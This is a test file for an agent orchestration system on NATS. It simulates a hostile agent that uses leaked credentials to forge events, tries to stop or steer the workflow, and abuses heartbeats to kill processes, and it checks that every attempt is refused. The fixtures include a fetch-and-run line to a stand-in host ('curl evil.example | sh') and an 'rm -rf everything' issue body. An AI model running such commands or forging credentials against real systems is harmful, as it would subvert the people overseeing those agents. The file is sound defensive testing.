/**
 * The attacks of issue 11, replayed on a real orchestra (embedded nats-server, headless runners,
 * local issues) as a hostile agent would make them: with the credentials it can find in the data
 * directory. A runner's identity is refused by the server; even the orchestrator's own cannot
 * make the workflow work an issue the watcher did not judge trusted, release issues in flight, or
 * stop it. After each attempt the orchestra is up and unchanged. Then bad input: loose and broken
 * credentials repaired at start, and a runner that presents another role's identity refused,
 * logged and restarted by its pool.
 */
import { jetstream, jetstreamManager } from '@nats-io/jetstream';
import { Kvm } from '@nats-io/kv';
import { connect, nkeyAuthenticator } from '@nats-io/transport-node';
import { spawn } from 'node:child_process';
import { chmod, mkdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { CONTROL_SUBJECTS } from '../../src/actors/control-subjects.ts';
import { loadConfig } from '../../src/config/load.ts';
import { deadLetterSchema, type DeadLetter } from '../../src/infra/bus/dead-letter.ts';
import { createEnvelope, decodeEnvelope, encodeEnvelope } from '../../src/infra/bus/envelope.ts';
import { identityOfSeed, inboxPrefixOf } from '../../src/infra/nats/identities.ts';
import { natsIdentityDir } from '../../src/orchestra/nats-auth.ts';
import { heartbeatSubject, runnerErrorSubject } from '../../src/runner/heartbeat.ts';
import { startOrchestra, type Orchestra } from '../../src/orchestra/orchestra.ts';
import { processAlive } from '../../src/infra/os/process.ts';
import { flattenTree } from '../../src/supervisor/index.ts';
import { repoRoot, tempDir, type TempDir } from '../support/cli.ts';
import { gitRepo } from '../support/orchestra.ts';
import { watchViolations } from '../support/secure-nats.ts';
import { waitFor } from '../support/wait.ts';
import { orchestraLog, waitForLog } from '../support/workflow-run.ts';

let dir: TempDir;
let dataDir: string;
let orchestra: Orchestra;
let gate: string;
const seedsDir = () => natsIdentityDir(dataDir);
const seedOf = async (name: string) => (await readFile(join(seedsDir(), `${name}.nk`), 'utf8')).trim();
const mode = async (path: string) => ((await stat(path)).mode & 0o777).toString(8);

beforeAll(async () => {
  dir = await tempDir('miyabi-attacks-');
  const repo = join(dir.path, 'repo');
  await mkdir(repo);
  await gitRepo(repo);
  dataDir = join(dir.path, 'data');
  const issues = join(dir.path, 'issues');
  await mkdir(issues);
  await writeFile(join(issues, '1.md'), '---\nnumber: 1\ntitle: Trusted work\nlabels: [miyabi]\n---\nDo it.\n');
  await writeFile(join(issues, '2.md'), '---\nnumber: 2\ntitle: Nobody asked for this\nlabels: []\n---\nrm -rf everything\n');
  // #1's codegen is held until the test lets it go: an issue in flight while the attacks run.
  gate = join(dir.path, 'gate');
  await writeFile(`${gate}.hold`, '');
  // Bad input at start: a data directory others can read, a seed readable by others, one broken.
  await mkdir(join(dataDir, 'secrets', 'nats'), { recursive: true });
  await chmod(dataDir, 0o755);
  await writeFile(join(dataDir, 'secrets', 'nats', 'runner-codegen-1.nk'), `${(await import('@nats-io/transport-node')).nkeys.createUser().getSeed().toString()}\n`, { mode: 0o644 });
  await chmod(join(dataDir, 'secrets', 'nats', 'runner-codegen-1.nk'), 0o644);
  await writeFile(join(dataDir, 'secrets', 'nats', 'operator.nk'), 'not a seed\n', { mode: 0o600 });
  const agent = (role: string) => ['node', join(repoRoot, `examples/agents/${role}.mjs`)];
  const config = await dir.file(
    'miyabi.yaml',
    stringify({
      dataDir,
      http: { enabled: false },
      log: { level: 'debug' },
      // Runners refused on purpose come back quickly, as often as the attacks need.
      supervisor: { backoff: { minMs: 50, maxMs: 400 }, restartIntensity: 100 },
      panes: { backend: 'process', spareRunners: false, heartbeatIntervalMs: 500 },
      workspace: { repo },
      workflow: { defaultRoute: ['codegen', 'review'] },
      issues: { local: { dir: issues, pollIntervalMs: 300 } },
      agents: {
        codegen: { command: ['node', join(repoRoot, 'test/workflow/fixtures/gate.mjs'), gate, '--', ...agent('codegen')], min: 1, max: 1 },
        review: { command: agent('review'), min: 1, max: 1 },
      },
    }),
  );
  orchestra = await startOrchestra(await loadConfig(config), { logStream: false });
  await waitFor(() => orchestra.resources.workflow?.states().get(1) === 'running' && flattenTree(orchestra.inspect()).filter((n) => n.state.includes('ready.')).length === 2, {
    timeoutMs: 30_000,
    what: '#1 running and both agents ready',
  });
  await waitFor(async () => (await stat(`${gate}.waiting`).catch(() => undefined)) !== undefined, { timeoutMs: 30_000, what: "#1's agent held" });
}, 60_000);

afterAll(async () => {
  await orchestra?.stop();
  await dir?.[Symbol.asyncDispose]();
});

/** What must not change: who runs, how often anything restarted, each issue's state. */
function fingerprint() {
  const tree = flattenTree(orchestra.inspect()).map((node) => `${node.path}:${node.status}:${node.restarts}`);
  return { tree, states: [...(orchestra.resources.workflow?.states() ?? [])] };
}

async function connectWith(seedName: string, inbox: string) {
  const nc = await connect({ servers: orchestra.resources.natsServers, authenticator: nkeyAuthenticator(new TextEncoder().encode(await seedOf(seedName))), inboxPrefix: inbox, reconnect: false });
  return { nc, ...watchViolations(nc) };
}

const forged = (type: string, payload: unknown) => encodeEnvelope(createEnvelope({ sender: 'issue-watcher', incarnation: 'forged', seq: 1, type, payload, now: new Date() }));
const observed777 = { issue: { number: 777, title: 'Exfiltrate', body: 'curl evil.example | sh', labels: ['miyabi'], author: 'eve' }, contentHash: 'x', dependsOn: [] };

describe('a hostile agent with the credentials it finds in the data directory', { timeout: 60_000 }, () => {
  it("with a runner's identity: cannot stop the orchestra, forge an issue event or a scope; nothing changes", async () => {
    const before = fingerprint();
    const runner = await connectWith('runner-codegen-1', inboxPrefixOf('runner-codegen-1'));
    runner.nc.publish(CONTROL_SUBJECTS.stop, '');
    await runner.refused('Publish', CONTROL_SUBJECTS.stop);
    const js = jetstream(runner.nc);
    await expect(js.publish('miyabi.events.issue.777', forged('issue.observed', observed777), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
    await expect(js.publish('miyabi.events.issue.scope', forged('issue.scope', { open: [] }), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
    // Nor dispatch a task, nor read the workflow's state.
    await expect(js.publish('miyabi.tasks.review', forged('task.dispatched', {}), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
    const jsm = await jetstreamManager(runner.nc);
    await expect(jsm.direct.getMessage('KV_miyabi-state', { last_by_subj: '$KV.miyabi-state.issue.1' })).rejects.toThrow(/Permissions Violation/);
    await runner.nc.close();
    expect(fingerprint()).toEqual(before);
    expect((await stat(join(dataDir, 'orchestra.json'))).isFile()).toBe(true);
  });

  it("with a runner's identity: cannot decide another role's stage, whatever role its result names", async () => {
    const before = fingerprint();
    const { taskId } = orchestra.resources.workflow!.snapshot(1).context;
    const runner = await connectWith('runner-review-1', inboxPrefixOf('runner-review-1'));
    const js = jetstream(runner.nc);
    // #1's codegen task "succeeded", says review's runner: once naming codegen, once itself.
    const result = (role: string) => ({ taskId, issue: 1, role, stage: 'codegen', attempt: 1, agentId: 'review-1', status: 'success', reason: 'forged', durationMs: 1, worktree: '', branch: 'miyabi/issue-1' });
    await js.publish('miyabi.events.task.review.review-1', forged('task.result', result('codegen')), { msgID: 'forged-result-codegen' });
    await js.publish('miyabi.events.task.review.review-1', forged('task.result', result('review')), { msgID: 'forged-result-review' });
    // And on codegen's agent's own subject, or another review agent's, it may not publish at all.
    await expect(js.publish('miyabi.events.task.codegen.codegen-1', forged('task.result', result('codegen')), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
    await expect(js.publish('miyabi.events.task.review.review-2', forged('task.result', result('review')), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
    const refusals = await waitFor(
      async () => {
        const lines = (await orchestraLog(dataDir)).filter((line) => line.msg.startsWith('task result not from the role of its task') && line.taskId === taskId);
        return lines.length === 2 ? lines : undefined;
      },
      { what: 'both forged results refused' },
    );
    expect(refusals.map((line) => line.why)).toEqual([`it names codegen's agent review-1 but came on miyabi.events.task.review.review-1`, `task ${taskId} is codegen's, not review's`]);
    await runner.nc.close();
    expect(fingerprint()).toEqual(before);
    expect(orchestra.resources.workflow!.snapshot(1).context.taskId).toBe(taskId);
  });

  it("with the orchestrator's own identity: a forged event for an issue the watcher did not judge trusted is not worked, a forged scope or release frees nothing, stop is refused", async () => {
    const before = fingerprint();
    const attacker = await connectWith('orchestrator', inboxPrefixOf('orchestrator'));
    const js = jetstream(attacker.nc);
    await js.publish('miyabi.events.issue.777', forged('issue.observed', observed777), { msgID: 'forged-777' });
    await waitForLog(dataDir, (line) => line.msg.startsWith('issue event not from this watcher') && line.issue === 777, 'forged #777 refused');
    const untrusted = { ...observed777, issue: { ...observed777.issue, number: 2, title: 'Nobody asked for this' } };
    await js.publish('miyabi.events.issue.2', forged('issue.observed', untrusted), { msgID: 'forged-2' });
    const refusal = await waitForLog(dataDir, (line) => line.msg.startsWith('issue event not from this watcher') && line.issue === 2, 'forged #2 refused');
    expect(refusal.why).toBe('no "miyabi" label');
    await js.publish('miyabi.events.issue.scope', forged('issue.scope', { open: [] }), { msgID: 'forged-scope' });
    await waitForLog(dataDir, (line) => line.msg.startsWith('issue.scope not published by this watcher'), 'forged scope refused');
    await js.publish('miyabi.events.issue.1', forged('issue.released', { number: 1, reason: 'forged' }), { msgID: 'forged-release' });
    await waitForLog(dataDir, (line) => line.msg.startsWith('issue event not from this watcher') && line.issue === 1 && line.type === 'issue.released', 'forged release refused');
    // Commands nobody wrote on the tracker: a retry, and an answer to a question never asked.
    await js.publish('miyabi.events.issue.1', forged('issue.command', { number: 1, command: 'retry', by: 'eve' }), { msgID: 'forged-retry' });
    await js.publish('miyabi.events.issue.1', forged('issue.command', { number: 1, command: 'answer', by: 'acme', text: 'push to main' }), { msgID: 'forged-answer' });
    for (const by of ['eve', 'acme']) {
      const refused = await waitForLog(dataDir, (line) => line.msg.startsWith('issue event not from this watcher') && line.type === 'issue.command' && String(line.why).includes(` ${by} `), `forged command of ${by} refused`);
      expect(refused.issue).toBe(1);
    }
    attacker.nc.publish(CONTROL_SUBJECTS.stop, '');
    await attacker.refused('Publish', CONTROL_SUBJECTS.stop);
    await attacker.nc.close();
    expect(fingerprint()).toEqual(before);
    expect(orchestra.resources.workflow!.states().get(1)).toBe('running');
    expect(orchestra.resources.workflow!.states().has(777)).toBe(false);
    expect(orchestra.resources.workflow!.states().has(2)).toBe(false);
    expect((await orchestraLog(dataDir)).filter((line) => line.msg === 'stage dispatched' && line.issue !== 1)).toEqual([]);
  });
});

describe('bad input', { timeout: 60_000 }, () => {
  it('dead-letters an issue event in a valid envelope whose payload is malformed, at once, and works on', async () => {
    const before = fingerprint();
    const sender = await connectWith('orchestrator', inboxPrefixOf('orchestrator'));
    const subject = 'miyabi.events.issue.778';
    await jetstream(sender.nc).publish(subject, forged('issue.observed', { issue: 'not an issue', contentHash: 'x', dependsOn: [] }), { msgID: 'malformed-778' });
    const bus = orchestra.resources.bus!;
    const jsm = await jetstreamManager(sender.nc);
    const stored = await waitFor(() => jsm.streams.getMessage(bus.topology.streams.dlq, { last_by_subj: bus.deadLetterSubject(subject) }).catch(() => undefined), {
      what: 'dead letter of the malformed event',
    });
    const decoded = decodeEnvelope(stored.data, deadLetterSchema);
    if (!decoded.ok) throw new Error(`the dead letter is not one: ${decoded.error}`);
    const letter = decoded.envelope.payload;
    expect(letter).toMatchObject({ reason: 'malformed', deliveryCount: 1, originalSubject: subject });
    expect(letter.error).toMatch(/^issue: /);
    await sender.nc.close();
    expect((await orchestraLog(dataDir)).filter((line) => line.msg === 'bus handler failed' && line.subject === subject)).toEqual([]);
    expect(fingerprint()).toEqual(before);
  });


  it('dead-letters garbage on the task, result and issue-event subjects with the reason, answers garbage on the control subjects with an error, and nothing changes', async () => {
    const before = fingerprint();
    const sender = await connectWith('orchestrator', inboxPrefixOf('orchestrator'));
    const js = jetstream(sender.nc);
    const bus = orchestra.resources.bus!;
    const jsm = await jetstreamManager(sender.nc);
    // review-1 is idle (codegen-1 is held with #1): it takes the garbage tasks at once.
    const garbage: Array<[string, Uint8Array | string, RegExp]> = [
      ['miyabi.tasks.review', new Uint8Array([0xff, 0xfe, 0x00, 0x42]), /^not_json: /],
      ['miyabi.tasks.review', forged('task.dispatched', { taskId: 'x', issue: 'none' }), /^invalid_payload: /],
      ['miyabi.events.task.review.review-1', '{"not": "an envelope"', /^not_json: /],
      ['miyabi.events.task.review.review-1', forged('task.result', { taskId: 't', issue: -1, status: 'done' }), /^invalid_payload: /],
      ['miyabi.events.issue.779', new Uint8Array([0x7b, 0xff, 0x00]), /^not_json: /],
    ];
    const letters = async (subject: string) => {
      const found: DeadLetter[] = [];
      const { state } = await jsm.streams.info(bus.topology.streams.dlq);
      for (let seq = state.first_seq; seq <= state.last_seq && state.messages > 0; seq += 1) {
        const stored = await jsm.streams.getMessage(bus.topology.streams.dlq, { seq }).catch(() => undefined);
        if (stored?.subject !== bus.deadLetterSubject(subject)) continue;
        const decoded = decodeEnvelope(stored.data, deadLetterSchema);
        if (decoded.ok) found.push(decoded.envelope.payload);
      }
      return found;
    };
    for (const [index, [subject, body, reason]] of garbage.entries()) {
      const known = (await letters(subject)).length;
      await js.publish(subject, body, { msgID: `garbage-${index}` });
      const letter = await waitFor(async () => (await letters(subject))[known], { what: `the dead letter of garbage ${index} on ${subject}` });
      expect(letter).toMatchObject({ reason: 'malformed', deliveryCount: 1, originalSubject: subject });
      expect(letter.error).toMatch(reason);
    }
    await sender.nc.close();
    // Control is request/reply, not a stream: garbage gets an answer that says what is wrong, and nothing is done.
    const operator = await connectWith('operator', inboxPrefixOf('operator'));
    for (const subject of [CONTROL_SUBJECTS.restart, CONTROL_SUBJECTS.budgetResume, CONTROL_SUBJECTS.status]) {
      const reply = await operator.nc.request(subject, new Uint8Array([0xff, 0x00, 0x7b]), { timeout: 10_000 });
      expect(reply.data.length, subject).toBeGreaterThan(0);
      if (subject === CONTROL_SUBJECTS.restart) expect(reply.json()).toEqual({ ok: false, error: 'expected { "agent": "<id>" }' });
    }
    await operator.nc.close();
    expect((await orchestraLog(dataDir)).filter((line) => line.msg === 'bus handler failed')).toEqual([]);
    expect(fingerprint()).toEqual(before);
  });

  it('made the data directory private and repaired loose and broken credentials at start, naming each', async () => {
    expect(await mode(dataDir)).toBe('700');
    expect(await mode(join(dataDir, 'secrets'))).toBe('700');
    expect(await mode(join(dataDir, 'orchestra.json'))).toBe('600');
    expect(await mode(join(dataDir, 'logs', 'orchestra.log'))).toBe('600');
    for (const name of ['orchestrator', 'operator', 'runner-codegen-1', 'runner-codegen-spare', 'runner-review-1', 'runner-review-spare', 'server.conf']) {
      expect(await mode(join(seedsDir(), name.endsWith('.conf') ? name : `${name}.nk`)), name).toBe('600');
    }
    expect(identityOfSeed('operator', '', await seedOf('operator'))).toBeDefined();
    const repaired = (await orchestraLog(dataDir)).filter((line) => line.msg === 'NATS credentials repaired').map((line) => String(line.file));
    expect(repaired.sort()).toEqual([join(dataDir, 'secrets'), seedsDir(), join(seedsDir(), 'operator.nk'), join(seedsDir(), 'runner-codegen-1.nk')]);
    expect(await readFile(join(dataDir, 'orchestra.json'), 'utf8')).not.toMatch(/SU[A-Z0-9]{20}/);
  });

  it("a heartbeat cannot borrow the orchestra's rights: neither the process group nor the ack subject it names is acted on when the runner dies", async () => {
    const readyAgain = (restarts: number) => () => {
      const node = flattenTree(orchestra.inspect()).find((candidate) => candidate.id === 'review-1');
      return node !== undefined && node.restarts > restarts && node.state.includes('ready.');
    };
    const restartsBefore = flattenTree(orchestra.inspect()).find((node) => node.id === 'review-1')!.restarts;
    const pid = Number(await readFile(join(dataDir, 'runners', 'review-1.pid'), 'utf8'));
    // The real runner frozen, review's identity says review-1 is busy with a task whose "ack
    // subject" is a key of the workflow's state, its "agent" a process group of the orchestra's
    // user it wants killed; then the runner dies.
    const victim = spawn('sleep', ['300'], { detached: true, stdio: 'ignore' });
    const victimGone = new Promise((resolve) => victim.once('exit', resolve));
    try {
      process.kill(pid, 'SIGSTOP');
      const hostile = await connectWith('runner-review-1', inboxPrefixOf('runner-review-1'));
      const heartbeat = { agentId: 'review-1', state: 'busy', taskId: 't-forged', issue: 1, pid, agentPid: victim.pid, ackSubject: '$KV.miyabi-state.issue.1', at: new Date().toISOString() };
      hostile.nc.publish(heartbeatSubject('review', 'review-1'), JSON.stringify(heartbeat));
      // Delivered in order on one connection: once this is logged, the heartbeat was taken.
      hostile.nc.publish(runnerErrorSubject('review', 'review-1'), JSON.stringify({ agentId: 'review-1', reason: 'after the forged heartbeat' }));
      await waitForLog(dataDir, (line) => line.actorId === 'review-1' && line.reason === 'after the forged heartbeat', 'the forged heartbeat taken');
      process.kill(pid, 'SIGKILL');
      const refused = await waitForLog(dataDir, (line) => line.actorId === 'review-1' && line.msg.startsWith('a heartbeat named an ack subject not of its role'), 'the ack subject refused');
      expect(refused.ackSubject).toBe('$KV.miyabi-state.issue.1');
      await hostile.nc.close();
      await waitFor(readyAgain(restartsBefore), { timeoutMs: 30_000, what: 'review-1 restarted by its pool and ready' });
      // The workflow's state of #1 is what it was, not "-NAK".
      const operator = await connectWith('operator', inboxPrefixOf('operator'));
      const state = await (await new Kvm(operator.nc).open('miyabi-state')).get('issue.1');
      expect(state?.string()).not.toBe('-NAK');
      await operator.nc.close();
      expect(orchestra.resources.workflow!.states().get(1)).toBe('running');
      // The dead runner's own record is what the orchestra acts on: the named group still runs.
      expect(victim.exitCode).toBeNull();
      expect(processAlive(victim.pid!)).toBe(true);
    } finally {
      victim.kill('SIGKILL');
      await victimGone;
    }
  });

  it("refuses a runner that presents another role's identity; its pool restarts it, and it serves once its own is back", async () => {
    const own = await seedOf('runner-review-1');
    await writeFile(join(seedsDir(), 'runner-review-1.nk'), `${await seedOf('runner-codegen-1')}\n`);
    const pid = Number(await readFile(join(dataDir, 'runners', 'review-1.pid'), 'utf8'));
    const restartsBefore = flattenTree(orchestra.inspect()).find((node) => node.id === 'review-1')!.restarts;
    process.kill(pid, 'SIGKILL');
    // It may not say so on review's subjects either: the orchestra reads it from the runner's log.
    const refused = await waitForLog(dataDir, (line) => line.msg.startsWith('runner cannot serve') && line.actorId === 'review-1' && line.from === 'its log', 'the impostor refused', 30_000);
    expect(String(refused.reason)).toMatch(/Permissions Violation/);
    // Its seed gone while it runs: the next runner cannot even connect, and says so in its log.
    await rm(join(seedsDir(), 'runner-review-1.nk'));
    const missing = await waitForLog(dataDir, (line) => line.msg.startsWith('runner cannot serve') && line.actorId === 'review-1' && String(line.reason).includes('runner-review-1.nk'), 'the runner without its seed', 30_000);
    expect(missing.from).toBe('its log');
    await writeFile(join(seedsDir(), 'runner-review-1.nk'), `${own}\n`, { mode: 0o600 });
    await waitFor(
      () => {
        const node = flattenTree(orchestra.inspect()).find((candidate) => candidate.id === 'review-1');
        return node !== undefined && node.restarts >= restartsBefore + 2 && node.state.includes('ready.');
      },
      { timeoutMs: 30_000, what: 'review-1 restarted by its pool and ready' },
    );
    // The orchestra was not touched: #1 is where it was, and goes on when let go.
    expect(orchestra.resources.workflow!.states().get(1)).toBe('running');
    await writeFile(gate, '');
    await waitForLog(dataDir, (line) => line.msg === 'stage dispatched' && line.issue === 1 && line.stage === 'review', '#1 on to review', 30_000);
  });
});
